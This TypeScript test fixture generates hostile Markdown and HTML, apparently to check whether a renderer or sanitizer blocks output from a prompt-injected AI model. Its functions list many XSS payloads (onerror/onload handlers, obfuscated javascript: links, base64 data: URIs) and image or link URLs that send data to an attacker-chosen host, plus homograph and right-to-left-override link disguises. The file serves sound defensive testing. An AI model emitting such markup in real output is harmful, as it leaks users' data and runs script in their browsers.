/** Sets a mark that a test looks for: whatever of this runs has won. */
const run = `window.hostileRan=true`;

/**
 * Markdown of a model that was talked into working for somebody else: each line tries to run, load or track by its way.
 * @param host where the reader's data shall go.
 */
export function hostileMarkdown(host: string): string[] {
  const url = `http://${host}`;
  return [...pictures(url), ...elements(url), ...links(url), ...disguises(url), ...nested(url)];
}

/** Words that stand where no Markdown is drawn: names, titles, cells. */
export function hostileName(host: string): string {
  return `나루<img src=http://${host}/name onerror=${run}>![](http://${host}/name-md)`;
}

function pictures(url: string): string[] {
  return [
    `![실적](${url}/inline-image?q=secret)`,
    `![실적](<${url}/angle-image> "제목")`,
    `![실적][pic]\n\n[pic]: ${url}/reference-image "제목"`,
    `![${'x'.repeat(300)}](${url}/long-image)`,
    `![](//${url.slice(7)}/protocol-relative)`,
    `![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)`,
    `[![badge](${url}/badge)](${url}/badge-link)`,
  ];
}

function elements(url: string): string[] {
  return [
    `<img src="${url}/html-image">`,
    `<img src=x onerror="${run};fetch('${url}/onerror')">`,
    `<img srcset="${url}/srcset 1x, ${url}/srcset2 2x">`,
    `<picture><source srcset="${url}/source"><img alt="x"></picture>`,
    `<iframe src="${url}/iframe"></iframe>`,
    `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
    `<script>${run};fetch('${url}/script')</script>`,
    `<script src="${url}/script.js"></script>`,
    `<svg onload="${run}"><image href="${url}/svg-image"/><use href="${url}/svg#a"/></svg>`,
    `<svg><foreignObject><img src="${url}/foreign"></foreignObject></svg>`,
    `<style>@import url("${url}/import.css"); body{background:url(${url}/style)}</style>`,
    `<p style="background:url(${url}/style-attribute)">문단</p>`,
    `<link rel="stylesheet" href="${url}/stylesheet">`,
    `<link rel="prefetch" href="${url}/prefetch">`,
    `<link rel="preconnect" href="${url}">`,
    `<link rel="dns-prefetch" href="${url}">`,
    `<link rel="preload" as="image" href="${url}/preload">`,
    `<link rel="icon" href="${url}/icon">`,
    `<meta http-equiv="refresh" content="0;url=${url}/refresh">`,
    `<base href="${url}/base/">`,
    `<object data="${url}/object"></object><embed src="${url}/embed">`,
    `<video poster="${url}/poster" src="${url}/video" autoplay></video>`,
    `<audio src="${url}/audio" autoplay></audio><track src="${url}/track">`,
    `<form action="${url}/form" id="f"><button autofocus>보내기</button></form>`,
    `<input type="image" src="${url}/input-image" autofocus onfocus="${run}">`,
    `<details open ontoggle="${run}"><summary>열기</summary></details>`,
    `<body onload="${run}" background="${url}/body">`,
    `<table background="${url}/table"><tr><td>칸</td></tr></table>`,
    `<math><maction actiontype="statusline" xlink:href="javascript:${run}">식</maction></math>`,
    `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext></math>`,
    `<marquee onstart="${run}">글</marquee><portal src="${url}/portal"></portal>`,
    `<template><img src="${url}/template"></template><noscript><img src="${url}/noscript"></noscript>`,
    `<a href="${url}/ping-link" ping="${url}/ping">핑</a>`,
    `<!--><img src="${url}/comment" onerror="${run}">-->`,
    `<![CDATA[<img src="${url}/cdata">]]>`,
    `<?xml-stylesheet href="${url}/xml.css"?>`,
    `<x onmouseover="${run}" onfocus="${run}" tabindex=0 style="animation:x">손대기</x>`,
  ];
}

function links(url: string): string[] {
  return [
    `[스크립트](javascript:${run})`,
    `[스크립트](JaVaScRiPt:${run})`,
    `[스크립트](java\tscript:${run})`,
    `[스크립트](&#106;avascript:${run})`,
    `[스크립트](javascript&colon;${run})`,
    `[스크립트](\u0001javascript:${run})`,
    `[자료](data:text/html,<script>${run}</script>)`,
    `[자료](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
    `[스크립트](vbscript:${run}) [파일](file:///etc/passwd) [블롭](blob:${url}/blob) [앱](intent://x#Intent;end)`,
    `<javascript:${run}>`,
    `[참조][js]\n\n[js]: javascript:${run} "제목"`,
    `[제목](${url}/titled "\\" onmouseover=${run} x=\\"")`,
    `${url}/bare-autolink www.elsewhere.example/bare me@elsewhere.example`,
    `<${url}/angle-autolink>`,
    `각주[^1]\n\n[^1]: ![](${url}/footnote)`,
  ];
}

function disguises(url: string): string[] {
  return [
    `[https://narupharma.example/규정](${url}/other-than-shown)`,
    `[narupharma.example](https://narupharma.example@${url.slice(7)}/user-info)`,
    `[\u202Eelpmaxe.amrahpuran\u202C](${url}/turned-round)`,
    `[аpple.example](https://xn--pple-43d.example/)`,
    `＜img src=${url}/fullwidth＞ ‹img src=${url}/quote›`,
    `<\u200Bimg src=${url}/zero-width onerror=${run}>`,
    `&lt;img src=${url}/entities onerror=${run}&gt;`,
    `&#60;img src=${url}/numeric&#62;`,
  ];
}

function nested(url: string): string[] {
  return [
    `> - 1. **![굵게](${url}/nested)** ~~<img src=${url}/struck>~~`,
    `| 거래처 | 매출 |\n|---|---|\n| ![](${url}/cell) <img src=${url}/cell-html> | [칸](javascript:${run}) |`,
    '```html\n' + `<img src="${url}/code" onerror="${run}">\n` + '```',
    `\`<img src=${url}/inline-code>\``,
    `- [x] ![](${url}/task) <input type=image src=${url}/task-input>`,
    `# ![](${url}/heading)`,
    `[[1]](${url}/inside-citation) ![[1]](${url}/citation-image)`,
  ];
}
